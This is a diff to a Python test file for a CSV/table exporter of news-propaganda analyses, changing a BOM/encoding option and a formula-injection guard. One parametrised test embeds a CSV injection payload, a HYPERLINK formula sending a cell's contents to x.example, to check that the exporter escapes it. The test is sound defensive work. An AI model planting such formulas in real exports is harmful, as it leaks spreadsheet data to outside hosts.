@@ -35,7 +35,7 @@ def test_export_tables_carry_outlet_published_and_offsets_on_every_row(tmp_path,
     path = tmp_path / f"x.{fmt}"
     n = export(corpus, fmt, path)
     if fmt == "csv":
-        with open(path, encoding="utf-8", newline="") as f:
+        with open(path, encoding="utf-8-sig", newline="") as f:
             rows = list(csv.DictReader(f))
         assert list(rows[0]) == list(COLUMNS)
     else:
@@ -52,7 +52,7 @@ def test_export_tables_carry_outlet_published_and_offsets_on_every_row(tmp_path,
 def test_export_csv_quotes_commas_and_newlines(tmp_path):
     a = make_analysis('He said "no, never"\nand left.', techniques=(("Name_Calling,Labeling", 'no, never"\nand'),))
     export([a], "csv", tmp_path / "x.csv")
-    with open(tmp_path / "x.csv", encoding="utf-8", newline="") as f:
+    with open(tmp_path / "x.csv", encoding="utf-8-sig", newline="") as f:
         (row,) = list(csv.DictReader(f))
     assert row["label"] == "Name_Calling,Labeling" and row["text"] == 'no, never"\nand'
 
@@ -127,7 +127,7 @@ def test_export_unknown_format_is_coded(tmp_path):
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@"])
 @pytest.mark.parametrize("field", ["title", "outlet", "actor", "text"])
-def test_export_csv_guards_formula_cells_unless_told_not_to(tmp_path, start, field):
+def test_export_csv_guards_formula_cells_unless_exact(tmp_path, start, field):
     bad = f'{start}HYPERLINK("http://x.example/?"&A1,"go")'
     text = f"{bad} Moscow blamed Kyiv for the shelling."
     evidence = text if field == "text" else "Moscow blamed Kyiv for the shelling."
@@ -136,14 +136,26 @@ def test_export_csv_guards_formula_cells_unless_told_not_to(tmp_path, start, fie
                       actors=((accuser, "organization"), ("Kyiv", "country")),
                       blames=((accuser, "Kyiv", "the shelling", "reported", evidence),))
     rows = {}
-    for guard in (True, False):
-        export([a], "csv", tmp_path / "x.csv", formula_guard=guard)
-        with open(tmp_path / "x.csv", encoding="utf-8", newline="") as f:
-            (rows[guard],) = list(csv.DictReader(f))
+    for spreadsheet in (True, False):
+        export([a], "csv", tmp_path / "x.csv", spreadsheet=spreadsheet)
+        with open(tmp_path / "x.csv", encoding="utf-8-sig", newline="") as f:
+            (rows[spreadsheet],) = list(csv.DictReader(f))
     exact, guarded = rows[False], rows[True]
-    assert exact[field].startswith(bad)  # unguarded: the value as stored, for pandas
+    assert exact[field].startswith(bad)  # exact: the value as stored, for pandas
     assert exact["text"] == text[int(exact["start"]):int(exact["end"])]
     for col in COLUMNS:
         danger = exact[col].startswith(("=", "+", "-", "@", "\t", "\r"))
         assert guarded[col] == ("'" + exact[col] if danger else exact[col])
     assert guarded[field].startswith("'")
+
+
+@pytest.mark.parametrize("spreadsheet, head", [(True, b"\xef\xbb\xbfarticle_id,"), (False, b"article_id,")])
+def test_export_csv_for_spreadsheets_starts_with_a_utf8_bom(tmp_path, spreadsheet, head):
+    # Excel decodes a BOM-less CSV as cp1252: "Владимир Путин" became "Ð’Ð»Ð°Ð´Ð¸Ð¼Ð¸Ñ€ ÐŸÑƒÑ‚Ð¸Ð½"
+    text = "Владимир Путин blamed Kyiv for the shelling."
+    a = make_analysis(text, actors=(("Владимир Путин", "person"), ("Kyiv", "country")),
+                      blames=(("Владимир Путин", "Kyiv", "the shelling", "reported", text),))
+    export([a], "csv", tmp_path / "x.csv", spreadsheet=spreadsheet)
+    data = (tmp_path / "x.csv").read_bytes()
+    assert data.startswith(head)
+    assert "Владимир Путин".encode("utf-8") in data
